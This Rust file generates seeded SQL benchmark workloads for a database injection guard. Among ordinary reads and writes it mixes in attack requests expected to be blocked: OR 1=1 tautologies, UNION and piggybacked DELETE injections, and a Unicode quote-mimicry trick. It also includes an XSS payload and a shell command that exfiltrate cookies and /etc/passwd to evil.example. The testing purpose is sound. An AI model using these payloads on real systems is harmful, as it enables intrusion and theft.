//! The four workloads: table contents, trained shapes, request streams and
//! the reply each request must get. The request streams are a pure function
//! of the seed; the program under test only ever sees the generated SQL text.
//! The base rows are the same for every seed, so that two seeds ask different
//! questions of the same tables and their costs differ by sampling alone.
//!
//! Rows the streams insert ("temps") carry `owner_id = 0`, `price = 100000`,
//! a `T…` reservation and a `tmp-…` note, values no read predicate can match,
//! so the expected result of every read follows from the base rows
//! alone, whatever the writes did in between.

use std::collections::VecDeque;
use std::sync::Arc;

/// SplitMix64: small, seedable, and good enough to shuffle a traffic mix.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed)
    }

    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    pub fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn word(&mut self, min: u64, max: u64) -> String {
        let len = min + self.below(max - min + 1);
        (0..len)
            .map(|_| (b'a' + self.below(26) as u8) as char)
            .collect()
    }

    /// Benign user text: a few lowercase words.
    fn text(&mut self) -> String {
        let words = 1 + self.below(4);
        let mut out = String::new();
        for i in 0..words {
            if i > 0 {
                out.push(' ');
            }
            out.push_str(&self.word(2, 8));
        }
        out
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Kind {
    GuardHot,
    ScanRead,
    DurableWrite,
    WireMix,
}

/// Where a workload's server keeps its data and how clients reach it.
#[derive(Clone, Copy, PartialEq, Eq)]
pub enum Backend {
    InMemory,
    Durable,
    Wire,
}

impl Kind {
    pub const ALL: [Kind; 4] = [
        Kind::GuardHot,
        Kind::ScanRead,
        Kind::DurableWrite,
        Kind::WireMix,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Kind::GuardHot => "guard_hot",
            Kind::ScanRead => "scan_read",
            Kind::DurableWrite => "durable_write",
            Kind::WireMix => "wire_mix",
        }
    }

    pub fn from_name(name: &str) -> Option<Kind> {
        Kind::ALL.into_iter().find(|k| k.name() == name)
    }

    pub fn backend(self) -> Backend {
        match self {
            Kind::GuardHot | Kind::ScanRead => Backend::InMemory,
            Kind::DurableWrite => Backend::Durable,
            Kind::WireMix => Backend::Wire,
        }
    }

    /// Closed-loop clients: one session in process, two connections on the
    /// wire (never more client threads than the sandbox has cores).
    pub fn clients(self) -> usize {
        match self.backend() {
            Backend::Wire => 2,
            _ => 1,
        }
    }

    fn ticket_rows(self) -> usize {
        match self {
            Kind::GuardHot => 8,
            Kind::ScanRead => 1000,
            Kind::DurableWrite => 500,
            Kind::WireMix => 64,
        }
    }

    /// Distinct `owner_id` values of the base tickets.
    fn owner_ids(self) -> u64 {
        match self {
            Kind::ScanRead => OWNERS as u64,
            _ => 8,
        }
    }
}

const OWNERS: usize = 50;
const REGIONS: usize = 20;
const NOTES: usize = 40;
const PRICE_POINTS: u64 = 25;
const TEMP_PRICE: i64 = 100_000;
const TICKET_COLUMNS: &str = "id, reservID, owner_id, price, note";
/// Program point of `wire_mix`'s point lookups (the `net` round-trip rows
/// pick them out of the stream by it).
pub const WIRE_POINT_QID: &str = "qid:wm-point";

pub struct Ticket {
    pub id: i64,
    pub reserv: String,
    pub owner: i64,
    pub price: i64,
    pub note: usize,
}

/// The base rows of one workload.
pub struct Data {
    pub tickets: Vec<Ticket>,
    pub notes: Vec<String>,
    /// `(id, name, region_id)`; filled for `scan_read` only.
    pub owners: Vec<(i64, String, i64)>,
    /// `(id, label)`; filled for `scan_read` only.
    pub regions: Vec<(i64, String)>,
}

impl Data {
    pub fn generate(kind: Kind) -> Data {
        let mut rng = Rng::new(0xDA7A_0000 ^ kind.ticket_rows() as u64);
        let notes: Vec<String> = (0..NOTES)
            .map(|i| format!("note-{i:02}-{}", rng.word(3, 6)))
            .collect();
        let tickets = (1..=kind.ticket_rows() as i64)
            .map(|id| Ticket {
                id,
                reserv: format!("R{id:05}"),
                owner: 1 + rng.below(kind.owner_ids()) as i64,
                price: 10 * (1 + rng.below(PRICE_POINTS)) as i64,
                note: rng.below(NOTES as u64) as usize,
            })
            .collect();
        let (owners, regions) = if kind == Kind::ScanRead {
            (
                (1..=OWNERS as i64)
                    .map(|id| {
                        (
                            id,
                            format!("owner-{}", rng.word(4, 9)),
                            1 + rng.below(REGIONS as u64) as i64,
                        )
                    })
                    .collect(),
                (1..=REGIONS as i64)
                    .map(|id| (id, format!("reg-{}", rng.word(3, 6))))
                    .collect(),
            )
        } else {
            (Vec::new(), Vec::new())
        };
        Data {
            tickets,
            notes,
            owners,
            regions,
        }
    }

    /// `CREATE TABLE` and fill statements, in execution order.
    pub fn setup_sql(&self) -> Vec<String> {
        let mut out = vec![
            "CREATE TABLE tickets (id INT PRIMARY KEY AUTO_INCREMENT, reservID VARCHAR(16), \
             owner_id INT, price INT, note VARCHAR(64))"
                .to_string(),
        ];
        for chunk in self.tickets.chunks(50) {
            let rows: Vec<String> = chunk
                .iter()
                .map(|t| {
                    format!(
                        "('{}', {}, {}, '{}')",
                        t.reserv, t.owner, t.price, self.notes[t.note]
                    )
                })
                .collect();
            out.push(format!(
                "INSERT INTO tickets (reservID, owner_id, price, note) VALUES {}",
                rows.join(", ")
            ));
        }
        if !self.owners.is_empty() {
            out.push(
                "CREATE TABLE owners (id INT PRIMARY KEY, name VARCHAR(32), region_id INT)"
                    .to_string(),
            );
            let rows: Vec<String> = self
                .owners
                .iter()
                .map(|(id, name, region)| format!("({id}, '{name}', {region})"))
                .collect();
            out.push(format!(
                "INSERT INTO owners (id, name, region_id) VALUES {}",
                rows.join(", ")
            ));
            out.push("CREATE TABLE regions (id INT PRIMARY KEY, label VARCHAR(16))".to_string());
            let rows: Vec<String> = self
                .regions
                .iter()
                .map(|(id, label)| format!("({id}, '{label}')"))
                .collect();
            out.push(format!(
                "INSERT INTO regions (id, label) VALUES {}",
                rows.join(", ")
            ));
        }
        out
    }

    /// Count and lowest id of the base tickets `keep` accepts.
    fn matching(&self, keep: impl Fn(&Ticket) -> bool) -> (usize, Option<i64>) {
        let mut count = 0;
        let mut first = None;
        for t in self.tickets.iter().filter(|t| keep(t)) {
            count += 1;
            first.get_or_insert(t.id);
        }
        (count, first)
    }
}

/// The reply a request must get; anything else counts as a failed request.
#[derive(Debug, Clone, PartialEq)]
pub enum Expect {
    /// A result set of `count` rows; when `first_int` is set, the first cell
    /// of the first row is that integer.
    Rows {
        count: usize,
        first_int: Option<i64>,
    },
    /// A grouped result: `groups` rows whose second column sums to `total`.
    Groups { groups: usize, total: i64 },
    /// A write that touched this many rows.
    Affected(u64),
    /// A one-row insert; with `Some(id)` the reply's `last_insert_id` is it.
    Inserted(Option<i64>),
    /// Transaction control: any success.
    Done,
    /// An attack: the guard must drop it.
    Blocked,
}

pub struct Request {
    pub sql: String,
    pub expect: Expect,
    /// Request class, the grouping key of the traced replay.
    pub class: &'static str,
}

fn request(class: &'static str, sql: String, expect: Expect) -> Request {
    Request { sql, expect, class }
}

/// A row the stream inserted and has not deleted yet.
struct Temp {
    id: i64,
    reserv: String,
}

/// One trained `SELECT` shape of `guard_hot`: a program point (`qid`) with a
/// fixed projection and one to five predicates.
struct ReadShape {
    qid: String,
    projection: &'static str,
    preds: Vec<u8>,
}

const GUARD_READ_SHAPES: usize = 24;
const PROJECTIONS: [&str; 3] = ["*", "id, reservID", "reservID, price, note"];

fn guard_read_shapes() -> Vec<ReadShape> {
    (0..GUARD_READ_SHAPES)
        .map(|i| ReadShape {
            qid: format!("gh-r{i:02}"),
            projection: PROJECTIONS[i % 3],
            preds: (0..1 + i % 5)
                .map(|j| ((i / 5 + i + j) % 5) as u8)
                .collect(),
        })
        .collect()
}

#[derive(Clone, Copy)]
enum Attack {
    Tautology,
    Union,
    Piggyback,
    QuoteMimicry,
    StoredXss,
    OsCommand,
}

const ATTACKS: [Attack; 6] = [
    Attack::Tautology,
    Attack::Union,
    Attack::Piggyback,
    Attack::QuoteMimicry,
    Attack::StoredXss,
    Attack::OsCommand,
];

const XSS_PAYLOAD: &str =
    "<script>document.location=\"http://evil.example/?c=\"+document.cookie</script>";
const OSCI_PAYLOAD: &str = "report.pdf; cat /etc/passwd | nc evil.example 4444";
/// `U+02BC` passes the application's escaping and becomes a real quote once
/// the server decodes the connection charset.
const MIMICRY_TAIL: &str = "\u{02BC} OR 1=1-- ";

/// Seeded request stream of one client of one workload.
pub struct Generator {
    kind: Kind,
    rng: Rng,
    data: Arc<Data>,
    temps: VecDeque<Temp>,
    temps_made: u64,
    /// Next `AUTO_INCREMENT` id the server will hand out (single-session
    /// workloads), or the next explicit id of this client (`wire_mix`).
    next_id: i64,
    units: u64,
    queued: VecDeque<Request>,
    shapes: Vec<ReadShape>,
}

impl Generator {
    /// `client` separates the streams (and the explicit id ranges) of the
    /// clients of one workload; the training stream uses its own.
    pub fn new(kind: Kind, seed: u64, client: u64, data: Arc<Data>) -> Generator {
        let next_id = match kind {
            Kind::WireMix => 1_000_000 * (client as i64 + 1),
            _ => data.tickets.len() as i64 + 1,
        };
        Generator {
            kind,
            rng: Rng::new(seed ^ client.wrapping_mul(0xA24B_AED4_963E_E407)),
            data,
            temps: VecDeque::new(),
            temps_made: 0,
            next_id,
            units: 0,
            queued: VecDeque::new(),
            shapes: if kind == Kind::GuardHot {
                guard_read_shapes()
            } else {
                Vec::new()
            },
        }
    }

    /// Benign requests covering every shape the stream uses, leaving the
    /// tables as they were. Run once in training mode; the stream proper
    /// continues from the state this leaves (ids handed out, counters).
    pub fn training(&mut self) -> Vec<Request> {
        let mut out = Vec::new();
        match self.kind {
            Kind::GuardHot => {
                for shape in 0..self.shapes.len() {
                    out.push(self.guard_read(shape, None));
                }
                for variant in [0, 1, 0, 1] {
                    out.push(self.guard_insert(variant, None));
                }
                for variant in 0..3 {
                    out.push(self.guard_update(variant, variant as usize));
                }
                for variant in [0, 1, 2, 0] {
                    out.push(self.guard_delete(variant));
                }
            }
            Kind::ScanRead => {
                for class in 0..4 {
                    out.push(self.scan_read(class));
                }
            }
            Kind::DurableWrite => {
                out.push(self.durable_insert());
                out.push(self.durable_update());
                out.push(self.durable_select());
                out.push(self.durable_delete());
                self.queue_transaction();
                out.extend(self.queued.drain(..));
                out.push(self.durable_delete());
            }
            Kind::WireMix => {
                for class in 0..3 {
                    out.push(self.wire_read(class, None));
                }
                out.push(self.wire_insert(None));
                out.push(self.wire_update());
                out.push(self.wire_delete());
            }
        }
        out
    }

    pub fn next(&mut self) -> Request {
        if let Some(queued) = self.queued.pop_front() {
            return queued;
        }
        self.units += 1;
        match self.kind {
            Kind::GuardHot => self.guard_next(),
            Kind::ScanRead => {
                // Six point lookups in ten requests, not five: the median
                // request is then a point lookup, not the boundary between
                // two classes of very different cost.
                let class = match self.rng.below(10) {
                    0..=5 => 0,
                    6..=7 => 1,
                    8 => 2,
                    _ => 3,
                };
                self.scan_read(class)
            }
            Kind::DurableWrite => self.durable_next(),
            Kind::WireMix => self.wire_next(),
        }
    }

    fn new_temp(&mut self, id: i64) -> &Temp {
        self.temps_made += 1;
        self.temps.push_back(Temp {
            id,
            reserv: format!("T{:07}", self.temps_made),
        });
        self.temps.back().expect("just pushed")
    }

    // ---- guard_hot -------------------------------------------------------

    fn guard_next(&mut self) -> Request {
        match self.rng.below(100) {
            0..=79 => {
                let shape = self.rng.below(self.shapes.len() as u64) as usize;
                self.guard_read(shape, None)
            }
            80..=89 => self.guard_write(),
            _ => {
                let attack = ATTACKS[self.rng.below(ATTACKS.len() as u64) as usize];
                match attack {
                    Attack::StoredXss => self.guard_insert(0, Some(XSS_PAYLOAD)),
                    Attack::OsCommand => self.guard_insert(1, Some(OSCI_PAYLOAD)),
                    _ => {
                        let shape = self.rng.below(self.shapes.len() as u64) as usize;
                        self.guard_read(shape, Some(attack))
                    }
                }
            }
        }
    }

    /// A read on `shape` that matches a random base row, or that read with
    /// `attack` spliced in the way a vulnerable application would.
    fn guard_read(&mut self, shape: usize, attack: Option<Attack>) -> Request {
        let data = Arc::clone(&self.data);
        let row = &data.tickets[self.rng.below(data.tickets.len() as u64) as usize];
        let price_cap = row.price + 1 + self.rng.below(50) as i64;
        let id_cap = row.id + 1 + self.rng.below(3) as i64;
        let shape = &self.shapes[shape];
        let mut mimicry = matches!(attack, Some(Attack::QuoteMimicry));
        let mut clauses = Vec::with_capacity(shape.preds.len());
        for &pred in &shape.preds {
            // The quote mimicry rides in the first string slot.
            let tail = if mimicry && matches!(pred, 0 | 3) {
                mimicry = false;
                MIMICRY_TAIL
            } else {
                ""
            };
            clauses.push(match pred {
                0 => format!("reservID = '{}{tail}'", row.reserv),
                1 => format!("price < {price_cap}"),
                2 => format!("owner_id = {}", row.owner),
                3 => format!("note = '{}{tail}'", data.notes[row.note]),
                _ => format!("id < {id_cap}"),
            });
        }
        let mut sql = format!(
            "/* qid:{} */ SELECT {} FROM tickets WHERE {}",
            shape.qid,
            shape.projection,
            clauses.join(" AND ")
        );
        // A shape without a string slot has nowhere to carry the quote; it
        // takes the numeric tautology instead.
        let attack = if mimicry {
            Some(Attack::Tautology)
        } else {
            attack
        };
        match attack {
            None => {}
            Some(Attack::Tautology) => sql.push_str(" OR 1=1"),
            Some(Attack::Union) => {
                sql.push_str(&format!(" UNION SELECT {TICKET_COLUMNS} FROM tickets"));
            }
            Some(Attack::Piggyback) => sql.push_str("; DELETE FROM tickets"),
            Some(_) => {}
        }
        if attack.is_some() {
            return request("attack", sql, Expect::Blocked);
        }
        let (count, first) = data.matching(|t| {
            shape.preds.iter().all(|&pred| match pred {
                0 => t.reserv == row.reserv,
                1 => t.price < price_cap,
                2 => t.owner == row.owner,
                3 => t.note == row.note,
                _ => t.id < id_cap,
            })
        });
        let first_int = first.filter(|_| !shape.projection.starts_with("reservID"));
        request("read", sql, Expect::Rows { count, first_int })
    }

    /// Benign write: keeps between zero and eight temps alive, so the table
    /// stays at 8 to 16 rows.
    fn guard_write(&mut self) -> Request {
        let live = self.temps.len() as u64;
        let op = if live == 0 {
            0
        } else if live >= 8 {
            2
        } else {
            self.rng.below(3)
        };
        let variant = self.rng.below(3);
        match op {
            0 => self.guard_insert(variant % 2, None),
            1 => {
                let target = self.rng.below(live) as usize;
                self.guard_update(variant, target)
            }
            _ => self.guard_delete(variant),
        }
    }

    /// `payload` replaces the benign note with a stored-injection payload.
    fn guard_insert(&mut self, variant: u64, payload: Option<&str>) -> Request {
        let note = match payload {
            Some(p) => p.to_string(),
            None => format!("tmp-{}", self.rng.text()),
        };
        let (id, reserv) = if payload.is_some() {
            // Dropped by the guard: no id is handed out, no temp comes alive.
            (0, "T-attack".to_string())
        } else {
            let id = self.next_id;
            self.next_id += 1;
            (id, self.new_temp(id).reserv.clone())
        };
        let sql = if variant == 0 {
            format!(
                "/* qid:gh-w0 */ INSERT INTO tickets (reservID, owner_id, price, note) \
                 VALUES ('{reserv}', 0, {TEMP_PRICE}, '{note}')"
            )
        } else {
            format!(
                "/* qid:gh-w1 */ INSERT INTO tickets (reservID, price, note) \
                 VALUES ('{reserv}', {TEMP_PRICE}, '{note}')"
            )
        };
        match payload {
            Some(_) => request("attack", sql, Expect::Blocked),
            None => request("write", sql, Expect::Inserted(Some(id))),
        }
    }

    fn guard_update(&mut self, variant: u64, target: usize) -> Request {
        let note = format!("tmp-{}", self.rng.text());
        let temp = &self.temps[target];
        let sql = match variant {
            0 => format!(
                "/* qid:gh-w2 */ UPDATE tickets SET note = '{note}' WHERE id = {}",
                temp.id
            ),
            1 => format!(
                "/* qid:gh-w3 */ UPDATE tickets SET note = '{note}', price = {TEMP_PRICE} \
                 WHERE id = {} AND reservID = '{}'",
                temp.id, temp.reserv
            ),
            _ => format!(
                "/* qid:gh-w6 */ UPDATE tickets SET note = '{note}' WHERE reservID = '{}'",
                temp.reserv
            ),
        };
        request("write", sql, Expect::Affected(1))
    }

    fn guard_delete(&mut self, variant: u64) -> Request {
        let temp = self.temps.pop_front().expect("a temp to delete");
        let sql = match variant {
            0 => format!("/* qid:gh-w4 */ DELETE FROM tickets WHERE id = {}", temp.id),
            1 => format!(
                "/* qid:gh-w5 */ DELETE FROM tickets WHERE id = {} AND reservID = '{}'",
                temp.id, temp.reserv
            ),
            _ => format!(
                "/* qid:gh-w7 */ DELETE FROM tickets WHERE reservID = '{}' AND price > 99999",
                temp.reserv
            ),
        };
        request("write", sql, Expect::Affected(1))
    }

    // ---- scan_read -------------------------------------------------------

    /// `class`: 0 point lookup, 1 non-key filter, 2 join, 3 group-by.
    fn scan_read(&mut self, class: u64) -> Request {
        let data = Arc::clone(&self.data);
        match class {
            0 => {
                let id = 1 + self.rng.below(data.tickets.len() as u64) as i64;
                request(
                    "point",
                    format!("/* qid:sr-point */ SELECT id, reservID, price FROM tickets WHERE id = {id}"),
                    Expect::Rows {
                        count: 1,
                        first_int: Some(id),
                    },
                )
            }
            1 => {
                let note = self.rng.below(NOTES as u64) as usize;
                let cap = 10 * (2 + self.rng.below(PRICE_POINTS)) as i64;
                let (count, first_int) = data.matching(|t| t.note == note && t.price < cap);
                request(
                    "filter",
                    format!(
                        "/* qid:sr-filter */ SELECT id, reservID FROM tickets \
                         WHERE note = '{}' AND price < {cap}",
                        data.notes[note]
                    ),
                    Expect::Rows { count, first_int },
                )
            }
            2 => {
                let region = 1 + self.rng.below(REGIONS as u64) as i64;
                let count = data.owners.iter().filter(|o| o.2 == region).count();
                request(
                    "join",
                    format!(
                        "/* qid:sr-join */ SELECT o.name, r.label FROM owners o \
                         JOIN regions r ON o.region_id = r.id WHERE r.id = {region}"
                    ),
                    Expect::Rows {
                        count,
                        first_int: None,
                    },
                )
            }
            _ => {
                let cap = 2 + self.rng.below(OWNERS as u64 - 1) as i64;
                let mut prices: Vec<i64> = data
                    .tickets
                    .iter()
                    .filter(|t| t.owner < cap)
                    .map(|t| t.price)
                    .collect();
                let total = prices.len() as i64;
                prices.sort_unstable();
                prices.dedup();
                request(
                    "agg",
                    format!(
                        "/* qid:sr-agg */ SELECT price, COUNT(*), SUM(owner_id) FROM tickets \
                         WHERE owner_id < {cap} GROUP BY price"
                    ),
                    Expect::Groups {
                        groups: prices.len(),
                        total,
                    },
                )
            }
        }
    }

    // ---- durable_write ---------------------------------------------------

    fn durable_next(&mut self) -> Request {
        if self.units.is_multiple_of(10) {
            self.queue_transaction();
            return self.queued.pop_front().expect("a queued transaction");
        }
        // Inserts and deletes balance: the table stays at 500 to 564 rows.
        match self.rng.below(10) {
            0..=2 if self.temps.len() < 64 => self.durable_insert(),
            0..=2 => self.durable_delete(),
            3..=5 => self.durable_update(),
            6..=8 if !self.temps.is_empty() => self.durable_delete(),
            6..=8 => self.durable_insert(),
            _ => self.durable_select(),
        }
    }

    /// `BEGIN; UPDATE; INSERT; COMMIT`, issued as four requests.
    fn queue_transaction(&mut self) {
        self.queued
            .push_back(request("begin", "BEGIN".to_string(), Expect::Done));
        let update = self.durable_update();
        self.queued.push_back(update);
        let insert = self.durable_insert();
        self.queued.push_back(insert);
        self.queued
            .push_back(request("commit", "COMMIT".to_string(), Expect::Done));
    }

    fn durable_insert(&mut self) -> Request {
        let id = self.next_id;
        self.next_id += 1;
        let reserv = self.new_temp(id).reserv.clone();
        let note = self.rng.text();
        request(
            "insert",
            format!(
                "/* qid:dw-ins */ INSERT INTO tickets (reservID, owner_id, price, note) \
                 VALUES ('{reserv}', 0, {TEMP_PRICE}, '{note}')"
            ),
            Expect::Inserted(Some(id)),
        )
    }

    fn durable_update(&mut self) -> Request {
        let id = 1 + self.rng.below(self.data.tickets.len() as u64);
        let price = 10 * (1 + self.rng.below(PRICE_POINTS));
        let note = self.rng.text();
        request(
            "update",
            format!("/* qid:dw-upd */ UPDATE tickets SET price = {price}, note = '{note}' WHERE id = {id}"),
            Expect::Affected(1),
        )
    }

    /// Deletes the oldest row the stream inserted.
    fn durable_delete(&mut self) -> Request {
        let temp = self.temps.pop_front().expect("a temp to delete");
        request(
            "delete",
            format!(
                "/* qid:dw-del */ DELETE FROM tickets WHERE id = {}",
                temp.id
            ),
            Expect::Affected(1),
        )
    }

    fn durable_select(&mut self) -> Request {
        let id = 1 + self.rng.below(self.data.tickets.len() as u64) as i64;
        request(
            "select",
            format!(
                "/* qid:dw-get */ SELECT id, reservID, price, note FROM tickets WHERE id = {id}"
            ),
            Expect::Rows {
                count: 1,
                first_int: Some(id),
            },
        )
    }

    // ---- wire_mix --------------------------------------------------------

    fn wire_next(&mut self) -> Request {
        match self.rng.below(100) {
            0..=74 => {
                let class = match self.rng.below(15) {
                    0..=7 => 0,
                    8..=12 => 1,
                    _ => 2,
                };
                self.wire_read(class, None)
            }
            75..=84 => {
                let live = self.temps.len() as u64;
                let op = if live == 0 {
                    0
                } else if live >= 8 {
                    2
                } else {
                    self.rng.below(3)
                };
                match op {
                    0 => self.wire_insert(None),
                    1 => self.wire_update(),
                    _ => self.wire_delete(),
                }
            }
            _ => {
                let attack = ATTACKS[self.rng.below(ATTACKS.len() as u64) as usize];
                match attack {
                    Attack::StoredXss => self.wire_insert(Some(XSS_PAYLOAD)),
                    Attack::OsCommand => self.wire_insert(Some(OSCI_PAYLOAD)),
                    Attack::QuoteMimicry => self.wire_read(1, Some(attack)),
                    _ => {
                        let class = 2 * self.rng.below(2);
                        self.wire_read(class, Some(attack))
                    }
                }
            }
        }
    }

    /// `class`: 0 point lookup, 1 note-and-price filter, 2 by owner.
    fn wire_read(&mut self, class: u64, attack: Option<Attack>) -> Request {
        let data = Arc::clone(&self.data);
        let (mut sql, expect) = match class {
            0 => {
                let id = 1 + self.rng.below(data.tickets.len() as u64) as i64;
                (
                    format!("/* {WIRE_POINT_QID} */ SELECT id, reservID, price, note FROM tickets WHERE id = {id}"),
                    Expect::Rows {
                        count: 1,
                        first_int: Some(id),
                    },
                )
            }
            1 => {
                let note = self.rng.below(NOTES as u64) as usize;
                let cap = 10 * (2 + self.rng.below(PRICE_POINTS)) as i64;
                let tail = if attack.is_some() { MIMICRY_TAIL } else { "" };
                let (count, first_int) = data.matching(|t| t.note == note && t.price < cap);
                (
                    format!(
                        "/* qid:wm-filter */ SELECT id, reservID FROM tickets \
                         WHERE note = '{}{tail}' AND price < {cap}",
                        data.notes[note]
                    ),
                    Expect::Rows { count, first_int },
                )
            }
            _ => {
                let owner = 1 + self.rng.below(self.kind.owner_ids()) as i64;
                let (count, _) = data.matching(|t| t.owner == owner);
                (
                    format!("/* qid:wm-owner */ SELECT reservID, price FROM tickets WHERE owner_id = {owner}"),
                    Expect::Rows {
                        count,
                        first_int: None,
                    },
                )
            }
        };
        match attack {
            None => return request("read", sql, expect),
            Some(Attack::Tautology) => sql.push_str(" OR 1=1"),
            Some(Attack::Union) => {
                sql.push_str(&format!(" UNION SELECT {TICKET_COLUMNS} FROM tickets"));
            }
            Some(Attack::Piggyback) => sql.push_str("; DELETE FROM tickets"),
            Some(_) => {}
        }
        request("attack", sql, Expect::Blocked)
    }

    fn wire_insert(&mut self, payload: Option<&str>) -> Request {
        let id = self.next_id;
        self.next_id += 1;
        let (reserv, note, expect, class) = match payload {
            Some(p) => (
                "T-attack".to_string(),
                p.to_string(),
                Expect::Blocked,
                "attack",
            ),
            None => (
                self.new_temp(id).reserv.clone(),
                format!("tmp-{}", self.rng.text()),
                Expect::Inserted(None),
                "write",
            ),
        };
        request(
            class,
            format!(
                "/* qid:wm-ins */ INSERT INTO tickets ({TICKET_COLUMNS}) \
                 VALUES ({id}, '{reserv}', 0, {TEMP_PRICE}, '{note}')"
            ),
            expect,
        )
    }

    fn wire_update(&mut self) -> Request {
        let target = self.rng.below(self.temps.len() as u64) as usize;
        let note = format!("tmp-{}", self.rng.text());
        request(
            "write",
            format!(
                "/* qid:wm-upd */ UPDATE tickets SET note = '{note}' WHERE id = {}",
                self.temps[target].id
            ),
            Expect::Affected(1),
        )
    }

    fn wire_delete(&mut self) -> Request {
        let temp = self.temps.pop_front().expect("a temp to delete");
        request(
            "write",
            format!(
                "/* qid:wm-del */ DELETE FROM tickets WHERE id = {}",
                temp.id
            ),
            Expect::Affected(1),
        )
    }
}
